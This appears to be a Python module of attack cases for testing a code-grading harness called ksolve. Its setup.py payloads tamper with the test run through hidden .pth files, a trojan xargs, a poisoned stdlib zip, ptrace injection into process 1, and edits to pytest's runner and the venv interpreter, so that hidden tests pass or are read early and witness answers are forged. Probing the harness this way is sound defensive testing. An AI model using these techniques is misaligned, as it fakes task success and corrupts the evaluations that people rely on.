"""Attacks by what a build step leaves behind, each a different kind of thing."""

from __future__ import annotations

from tests.attacks.attack import HIDE, Attack, in_setup
from tests.attacks.corpus.answer import MEND
from tests.attacks.payloads import (
    CASES_WHEN_READY,
    FORGE,
    HIDDEN_NEVER_FAIL,
    SAID,
    SYSTEM_SITE,
    TESTS,
    USER_SITE,
    WHEN_READY,
)
from tests.attacks.victims import PIP, PIP_ROOT, PYTEST_ROOT, UNITTEST, VENV

FAMILY = "build steps"

_HELPER = {"helper.py": WHEN_READY}
_IN_RUNNER = HIDDEN_NEVER_FAIL.replace("_pytest.runner.", "").replace("import _pytest.runner", "")
_FAR = "# a path of the installation\n" * (1 + (1 << 20) // 29)
# An xargs that does its work, and one thing more.
_XARGS = f"""#!/usr/bin/python3
import os, subprocess, sys
data = sys.stdin.buffer.read().split(b"\\0")[:-1]
words = [word for word in sys.argv[1:] if word != "-0"]
subprocess.run([os.fsencode(word) for word in words] + data)
if b"rm" in [os.fsencode(word) for word in words]:
    open("/testbed/shlex.py", "w").write(
        "exec(open('/usr/lib/python3.11/shlex.py').read())\\n" + {WHEN_READY!r}
    )
"""
# The same that reads what is prepared for the tests.
_XARGS_READS = f"""#!/usr/bin/python3
import glob, os, subprocess, sys
{MEND}
data = sys.stdin.buffer.read().split(b"\\0")[:-1]
words = [word for word in sys.argv[1:] if word != "-0"]
for path in glob.glob("/tmp/tmp.*/*"):
    if os.path.isfile(path):
        mend(read(path))
subprocess.run([os.fsencode(word) for word in words] + data)
"""
_BUILD_FOLDER = f"""
import os, shutil
# Python takes the folder of its own program for one of a build when this file lies in it, and
# looks for its library beside it, under another name.
if not os.path.exists("/usr/Lib"):
    shutil.copytree("/usr/lib/python3.11", "/var/Lib", symlinks=True)
    os.symlink("/var/Lib", "/usr/Lib")
    with open("/usr/Lib/shlex.py", "a") as file:
        file.write({WHEN_READY!r})
    with open("/usr/bin/pybuilddir.txt", "w") as file:
        file.write("../lib/python3.11/lib-dynload")
    # What lies beside the library itself is named, since its place is not found any more.
    with open("/usr/Lib/site.py", "a") as file:
        file.write(
            "\\nsys.path += ['/usr/local/lib/python3.11/dist-packages', "
            "'/usr/lib/python3/dist-packages']\\n"
        )
"""
# Puts another program into process 1, which no signal from inside of the container ends.
_PROCESS_1 = f"""
import ctypes, os, struct
WATCH = r'''
import os, time
{HIDE}
{MEND}
end = time.monotonic() + 60
while time.monotonic() < end:
    if mend(read("/testbed/tests/test_parse.py")):
        break
    time.sleep(0.005)
time.sleep(1000)
'''
open("/tmp/watch.py", "w").write(WATCH)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
ATTACH, GETREGS, SETREGS, POKE, DETACH = 16, 12, 13, 4, 17
if libc.ptrace(ATTACH, 1, None, None) == 0:
    os.waitpid(1, 0x40000000)
    registers = (ctypes.c_ulonglong * 27)()
    libc.ptrace(GETREGS, 1, None, ctypes.byref(registers))
    place, stack = registers[16], registers[19] - 4096
    def poke(address, data):
        data += bytes(-len(data) % 8)
        for at in range(0, len(data), 8):
            libc.ptrace(POKE, 1, address + at, int.from_bytes(data[at : at + 8], "little"))
    words = [b"/usr/bin/python3", b"/tmp/watch.py"]
    at, places = stack, []
    for word in words:
        places.append(at)
        poke(at, word + bytes(8 - len(word) % 8))
        at += len(word) + 16 & ~7
    poke(at, struct.pack("<QQQ", *places, 0))
    poke(at + 32, struct.pack("<Q", 0))
    # mov eax, 59; syscall
    poke(place, bytes.fromhex("b83b0000000f05"))
    registers[14], registers[13], registers[12] = places[0], at, at + 32
    registers[15] = 2**64 - 1
    libc.ptrace(SETREGS, 1, None, ctypes.byref(registers))
    libc.ptrace(DETACH, 1, None, None)
"""
_ROBS_IN_PTH = f"""
import json, os, sys
{FORGE}
with open("/proc/self/cmdline") as file:
    if "pytest" in file.read().split("\\0")[:4]:
        orders = b""
        if os.environ.get("KSOLVE_WITNESS"):
            while piece := os.read(8, 65536):
                orders += piece
        if orders:
            forge(json.loads(orders)["secret"].encode(), lambda line: os.write(9, line), {TESTS!r})
        os.write(1, {SAID!r}.encode())
        os._exit(0)
"""

_USER = (
    Attack(
        name="pth-behind-a-carriage-return",
        family=FAMILY,
        tries="a .pth file in the home folder whose import follows a lone carriage return",
        files={
            **_HELPER,
            **in_setup(
                f"{USER_SITE}\nwrite('spans.pth', '/testbed\\rimport helper\\r')",
            ),
        },
    ),
    Attack(
        name="pth-without-a-stem",
        family=FAMILY,
        tries="a file named just .pth, which has no suffix for those who ask a path for it",
        files={
            **_HELPER,
            **in_setup(f"{USER_SITE}\nwrite('.pth', '/testbed\\nimport helper\\n')"),
        },
    ),
    Attack(
        name="pth-behind-a-mebibyte",
        family=FAMILY,
        tries="a .pth file whose import follows a mebibyte of comments",
        files={
            **_HELPER,
            **in_setup(
                f"{USER_SITE}\nwrite('spans.pth', {_FAR[:29]!r} * {len(_FAR) // 29}"
                " + '/testbed\\nimport helper\\n')"
            ),
        },
    ),
    Attack(
        name="pth-is-a-link",
        family=FAMILY,
        tries="a .pth file that is a link to a file in /tmp",
        files={
            **_HELPER,
            **in_setup(f"""{USER_SITE}
os.makedirs(folder, exist_ok=True)
open("/tmp/spans.txt", "w").write("/testbed\\nimport helper\\n")
if not os.path.lexists(folder + "/spans.pth"):
    os.symlink("/tmp/spans.txt", folder + "/spans.pth")
"""),
        },
    ),
    Attack(
        name="pth-that-takes-the-orders",
        family=FAMILY,
        tries="the same behind a carriage return: reads the orders of ksolve's witness and answers",
        files={
            "helper.py": _ROBS_IN_PTH,
            **in_setup(f"{USER_SITE}\nwrite('spans.pth', '/testbed\\rimport helper\\r')"),
        },
    ),
    Attack(
        name="pth-for-unittest",
        family=FAMILY,
        tries="the same against unittest",
        victim=UNITTEST,
        files={
            "helper.py": CASES_WHEN_READY,
            **in_setup(f"{USER_SITE}\nwrite('spans.pth', '/testbed\\rimport helper\\r')", UNITTEST),
        },
    ),
    Attack(
        name="pth-beside-pips-own",
        family=FAMILY,
        tries="setup.py, run by `pip install -e .`, writes a second .pth behind a carriage return",
        victim=PIP,
        files={
            **_HELPER,
            **in_setup(f"{USER_SITE}\nwrite('spans.pth', '/testbed\\rimport helper\\r')", PIP),
        },
    ),
    Attack(
        name="line-in-pips-own-pth",
        family=FAMILY,
        tries="at exit of setup.py, the .pth that pip writes anyhow gets another line",
        victim=PIP,
        files={
            **_HELPER,
            **in_setup(
                f"""{USER_SITE}
import atexit
def add():
    path = os.path.join(folder, "easy-install.pth")
    if os.path.exists(path):
        open(path, "a").write("#\\rimport helper\\r")
atexit.register(add)
""",
                PIP,
            ),
        },
    ),
)

_ROOT = (
    Attack(
        name="system-pth-behind-a-carriage-return",
        family=FAMILY,
        tries="as root, by `pip install -e .`: a .pth file for all users with a carriage return",
        victim=PIP_ROOT,
        files={
            **_HELPER,
            **in_setup(
                f"{SYSTEM_SITE}\nwrite('spans.pth', '/testbed\\rimport helper\\r')", PIP_ROOT
            ),
        },
    ),
    Attack(
        name="own-xargs",
        family=FAMILY,
        tries="as root: an xargs in /usr/local/bin, which ksolve calls between its look at what has"
        " changed and the tests, writes a module that stands before Python's",
        victim=PYTEST_ROOT,
        files={
            "docs/conftest.py": "",
            **in_setup(
                f"import os\nopen('/usr/local/bin/xargs', 'w').write({_XARGS!r})\n"
                "os.chmod('/usr/local/bin/xargs', 0o755)\n"
                "open('/testbed/shlex.py', 'w').write("
                "\"exec(open('/usr/lib/python3.11/shlex.py').read())\\n\""
                f" + {WHEN_READY!r})"
            ),
        },
    ),
    Attack(
        name="own-xargs-reads-the-tests",
        family=FAMILY,
        tries="as root: the same program finds the hidden tests where ksolve unpacks them,"
        " and mends"
        " just what they ask",
        victim=PYTEST_ROOT,
        files={
            "docs/conftest.py": "",
            **in_setup(
                f"import os\nopen('/usr/local/sbin/xargs', 'w').write({_XARGS_READS!r})\n"
                "os.chmod('/usr/local/sbin/xargs', 0o755)"
            ),
        },
        reference="unresolved",
    ),
    Attack(
        name="library-in-an-archive",
        family=FAMILY,
        tries="as root: /usr/lib/python311.zip, which is on Python's path before its own modules",
        victim=PYTEST_ROOT,
        files=in_setup(f"""
import zipfile
with zipfile.ZipFile("/usr/lib/python311.zip", "w") as archive:
    archive.writestr("shlex.py", open("/usr/lib/python3.11/shlex.py").read() + {WHEN_READY!r})
"""),
    ),
    Attack(
        name="python-in-its-build-folder",
        family=FAMILY,
        tries="as root: a pybuilddir.txt beside Python's program has it look for its library under"
        " /usr/Lib, where a copy lies",
        victim=PYTEST_ROOT,
        files=in_setup(_BUILD_FOLDER),
    ),
    Attack(
        name="process-1-is-another",
        family=FAMILY,
        tries="as root: puts a program into process 1 of the container, which nothing inside can"
        " end, and which mends the package when the hidden tests appear",
        victim=PYTEST_ROOT,
        files=in_setup(_PROCESS_1),
    ),
    Attack(
        name="installed-module-by-a-link",
        family=FAMILY,
        tries="as root: a second name for the installed runner in the work tree, written through",
        victim=PYTEST_ROOT,
        files=in_setup(f"""
import os
runner = "/usr/lib/python3/dist-packages/_pytest/runner.py"
if not os.path.exists("runner.bak"):
    os.link(runner, "runner.bak")
    with open("runner.bak", "a") as file:
        file.write({_IN_RUNNER!r})
"""),
    ),
    Attack(
        name="user-customisation-of-all",
        family=FAMILY,
        tries="as root: a package usercustomize for all users",
        victim=PIP_ROOT,
        files=in_setup(
            f"{SYSTEM_SITE}\nwrite('usercustomize/__init__.py', {WHEN_READY!r})", PIP_ROOT
        ),
    ),
)

_VENV = (
    Attack(
        name="runner-of-the-environment-edited",
        family=FAMILY,
        tries="setup.py adds to the runner of the virtual environment that lies in the work tree",
        victim=VENV,
        files=in_setup(
            "with open('.venv/lib/python3.11/site-packages/_pytest/runner.py', 'a') as file:\n"
            f"    file.write({_IN_RUNNER!r})"
        ),
    ),
    Attack(
        name="module-of-the-environment-edited",
        family=FAMILY,
        tries="the same with a module that the runner imports",
        victim=VENV,
        files=in_setup(
            "with open('.venv/lib/python3.11/site-packages/iniconfig/__init__.py', 'a') as file:\n"
            f"    file.write({WHEN_READY!r})"
        ),
    ),
    Attack(
        name="interpreter-of-the-environment",
        family=FAMILY,
        tries="setup.py makes the environment's python a script that loads a module first",
        victim=VENV,
        files={
            "tools/pytest": "import runpy, sys\nimport _pytest.runner\n"
            f"exec({HIDDEN_NEVER_FAIL!r})\nsys.path[0] = ''\nsys.argv[1:] = sys.argv[3:]\n"
            "runpy.run_module('pytest', run_name='__main__', alter_sys=True)\n",
            **in_setup("""
import os
real = os.path.realpath(".venv/bin/python")
for name in ("python", "python3"):
    if os.path.lexists(".venv/bin/" + name):
        os.remove(".venv/bin/" + name)
os.symlink(real, ".venv/bin/python3.real")
for name in ("python", "python3"):
    with open(".venv/bin/" + name, "w") as file:
        file.write('#!/bin/sh\\nexec /testbed/.venv/bin/python3.real /testbed/tools/pytest "$@"\\n')
    os.chmod(".venv/bin/" + name, 0o755)
"""),
        },
    ),
    Attack(
        name="functions-of-the-activation",
        family=FAMILY,
        tries="setup.py defines a function python in the activation script",
        victim=VENV,
        files={
            "tools/pytest": "import runpy, sys\nimport _pytest.runner\n"
            f"exec({HIDDEN_NEVER_FAIL!r})\nsys.path[0] = ''\nsys.argv[1:] = sys.argv[3:]\n"
            "runpy.run_module('pytest', run_name='__main__', alter_sys=True)\n",
            **in_setup(
                "open('.venv/bin/activate', 'a').write("
                "'python() { command python /testbed/tools/pytest \"$@\"; }\\n')"
            ),
        },
    ),
    Attack(
        name="home-of-the-environment",
        family=FAMILY,
        tries="setup.py adds a .pth without a stem to the environment",
        victim=VENV,
        files={
            "helper.py": WHEN_READY,
            **in_setup(
                "open('.venv/lib/python3.11/site-packages/.pth', 'w')"
                ".write('/testbed\\nimport helper\\n')"
            ),
        },
    ),
)

ATTACKS = (*_USER, *_ROOT, *_VENV)
